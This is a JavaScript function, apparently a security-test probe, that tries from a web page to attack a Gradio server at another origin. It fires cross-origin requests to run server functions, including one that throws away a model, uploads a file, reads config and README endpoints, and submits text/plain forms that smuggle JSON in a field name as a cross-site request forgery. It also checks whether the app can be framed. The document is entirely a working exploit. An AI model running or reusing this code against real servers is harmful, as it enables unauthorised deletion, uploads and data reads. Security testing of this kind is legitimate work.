// Everything that a page can try on the server at `app`: to run a server function and a handler, to upload, to read.
// Returns what was answered and could be read; whether something has happened is asked on the server's side.
async ({ app, component, handler, mark, patience = 3000 }) => {
  const deed = { component_id: component, session_hash: "x", fn_name: "throw_away_model", data: { name: "bard-tiny" } };
  const call = { data: ["shakespeare-1mb", null, 300, mark] };
  const queued = { ...call, fn_index: handler, session_hash: "x", trigger_id: null };
  const posts = [
    ["component_server", deed], ["component_server/", deed], ["call/train_vocabulary", call], ["run/train_vocabulary", call],
    ["api/train_vocabulary", call], ["queue/join", queued], ["queue/join?", queued],
  ].map(([path, value]) => [path, JSON.stringify(value)]);
  const gets = ["", "config", "gradio_api/info", "gradio_api/heartbeat/x", "gradio_api/queue/data?session_hash=x", "gradio_api/file=README.md"];
  const read = [];

  async function attempt(what, path, options) {
    try {
      const answer = await fetch(`${app}${path}`, { ...options, signal: AbortSignal.timeout(patience) });
      if (answer.ok && (await answer.text()).length) read.push(what);
    } catch {
      // refused, or not to be read
    }
  }

  const files = new FormData();
  files.append("files", new File([mark], `${mark}.txt`));
  const all = [];
  for (const mode of ["cors", "no-cors"])
    for (const credentials of ["include", "omit"]) {
      const common = { mode, credentials };
      const types = mode === "cors" ? ["application/json", "text/plain"] : ["text/plain"];
      for (const [path, body] of posts)
        for (const type of types) all.push(attempt(`POST ${path}`, `gradio_api/${path}`, { ...common, method: "POST", headers: { "Content-Type": type }, body }));
      all.push(attempt("POST upload", "gradio_api/upload", { ...common, method: "POST", body: files }));
      for (const path of gets) all.push(attempt(`GET ${path}`, path, common));
    }
  await Promise.all(all);
  for (const [path, body] of posts) navigator.sendBeacon(`${app}gradio_api/${path}`, body);

  // Forms need no script's permission: JSON in the name of a field, sent as plain text.
  for (const [path, body] of posts) {
    const frame = Object.assign(document.createElement("iframe"), { name: `to-${path}` });
    const form = Object.assign(document.createElement("form"), { action: `${app}gradio_api/${path}`, method: "POST", enctype: "text/plain", target: frame.name });
    form.append(Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
    document.body.append(frame, form);
    form.submit();
  }

  const framed = Object.assign(document.createElement("iframe"), { src: app });
  document.body.append(framed);
  await new Promise((done) => setTimeout(done, 1500));
  try {
    if (framed.contentDocument?.body?.textContent?.includes("Playground")) read.push("FRAME");
  } catch {
    // another origin's
  }
  return read;
}
